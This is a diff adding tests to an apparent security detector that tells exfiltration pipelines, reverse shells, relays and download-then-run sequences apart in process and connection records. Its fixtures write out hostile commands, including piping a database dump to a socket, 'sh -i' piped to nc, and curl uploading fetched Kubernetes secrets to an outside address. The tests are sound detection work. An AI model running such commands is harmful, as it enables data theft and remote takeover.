@@ -112,3 +112,64 @@ def test_a_services_new_destinations_just_before_the_entry_are_its_callback_and_
     assert [(d, r) for d, _, r in got] == [("ext:6.6.6.6:1389", "callback"), ("ext:6.6.6.6:8000", "download")]
     assert X.service_callbacks("jvm", 200 * S, e, 2 * S, G.CONNECT) == []
     assert X.service_callbacks(None, 200 * S, e, 2 * S, G.CONNECT) == []
+
+
+def _pipe(*members, children=()):
+    """``sh`` running ``members`` (binary, args, pid) as one pipeline, 1 ms apart; ``children``
+    (exec id, parent, start) below them."""
+    info = {"sh": {"exec_id": "sh", "parent_exec_id": None, "binary": "/bin/bash", "args": "", "pid": 10,
+                   "start_ns": 0}}
+    for i, (b, a, pid) in enumerate(members):
+        info[b] = {"exec_id": b, "parent_exec_id": "sh", "binary": "/usr/bin/" + b, "args": a, "pid": pid,
+                   "start_ns": S + i * MS}
+    for x, p, t in children:
+        info[x] = {"exec_id": x, "parent_exec_id": p, "binary": "/bin/" + x, "args": "", "pid": 99, "start_ns": t}
+    return info
+
+
+def test_the_end_of_a_pipeline_that_fed_it_is_exfiltration():
+    """``pg_dump | gzip | perl -MIO::Socket …``: perl connected out, its earlier siblings produced
+    what it sent; not so for the pipeline's first member (``curl … | sh``), a pipeline that pipes
+    a shell out (``cat f | sh -i | nc``: a reverse shell), one whose member is driven from the
+    connection (a child after it), or one whose member itself fetched from outside (a relay)."""
+    info = _pipe(("pg_dump", "-Fc shop", 21), ("gzip", "-1", 22), ("perl", "-e 'IO::Socket …'", 23))
+    ids = list(info)
+    assert X.pipe_sink("perl", 2 * S, ids, info, 2 * S, {"perl"})
+    assert not X.pipe_sink("pg_dump", 2 * S, ids, info, 2 * S, {"pg_dump"})  # the first member sent nothing it got
+    # exec order may differ from fork order: the pid says which came first
+    swapped = {**info, "perl": {**info["perl"], "start_ns": S - MS}}
+    assert X.pipe_sink("perl", 2 * S, ids, swapped, 2 * S, {"perl"})
+    shell = _pipe(("cat", "/tmp/f", 21), ("sh", "-i", 22), ("nc", "6.6.6.6 443", 23))
+    assert not X.pipe_sink("nc", 2 * S, list(shell), shell, 2 * S, {"nc"})
+    driven = _pipe(("tar", "c /data", 21), ("nc", "6.6.6.6 443", 22), children=[("id", "tar", 3 * S)])
+    assert not X.pipe_sink("nc", 2 * S, list(driven), driven, 2 * S, {"nc"})
+    relay = _pipe(("curl", "-s https://x/a", 21), ("nc", "6.6.6.6 443", 22))
+    assert not X.pipe_sink("nc", 2 * S, list(relay), relay, 2 * S, {"nc", "curl"})
+    assert X.pipe_sink("nc", 2 * S, list(relay), relay, 2 * S, {"nc"})  # the same shape reading locally
+    far = _pipe(("tar", "c /data", 21), ("nc", "6.6.6.6 443", 22))
+    assert not X.pipe_sink("nc", 2 * S, list(far), far, MS // 2, {"nc"})  # not started together: no pipeline
+
+
+def test_a_sequence_of_commands_is_no_pipeline():
+    """``curl -o x && chmod +x x && ./x``: started together under one shell, but each ended before
+    the next began — ``./x``'s connection carries nothing they produced."""
+    info = _pipe(("curl", "-so /tmp/x https://x/a", 21), ("chmod", "+x /tmp/x", 22), ("x", "-o pool:443", 23))
+    info["curl"]["exit_ns"] = info["chmod"]["start_ns"] - 1
+    info["chmod"]["exit_ns"] = info["x"]["start_ns"] - 1
+    assert not X.pipe_sink("x", 2 * S, list(info), info, 2 * S, {"x"})
+    info["chmod"]["exit_ns"] = None  # still running (no exit seen): a pipeline's member
+    assert X.pipe_sink("x", 2 * S, list(info), info, 2 * S, {"x"})
+
+
+def test_an_upload_naming_the_file_after_at_or_equals_sends_it_out():
+    """``curl --data-binary @/tmp/s.json`` (and ``-F f=@…``, ``--upload-file=…``) names the file
+    the line wrote; a longer path that merely ends the same way does not."""
+    info = _info([("sh", None, "/bin/sh", "-c …", 0),
+                  ("get", "sh", "/usr/bin/curl", "-s https://k8s/api/v1/secrets -o /tmp/s.json", 1 * MS),
+                  ("post", "sh", "/usr/bin/curl", "-s -X POST --data-binary @/tmp/s.json http://6.6.6.6:9001/", 30 * MS),
+                  ("form", "sh", "/usr/bin/curl", "-F f=@/tmp/s.json http://6.6.6.6/", 40 * MS),
+                  ("other", "sh", "/usr/bin/curl", "--data-binary @/x/tmp/s.json http://6.6.6.6/", 50 * MS)])
+    e = _edges([("proc:get", "file:m/web:/tmp/s.json", G.WRITE, 2 * MS, "wrote /tmp/s.json", None),
+                *[(f"proc:{x}", "ext:6.6.6.6:9001", G.CONNECT, t * MS, "", None)
+                  for x, t in (("post", 35), ("form", 45), ("other", 55))]])
+    assert X.exfil_senders(list(info), info, e, G.WRITE, G.CONNECT) == {"post", "form"}
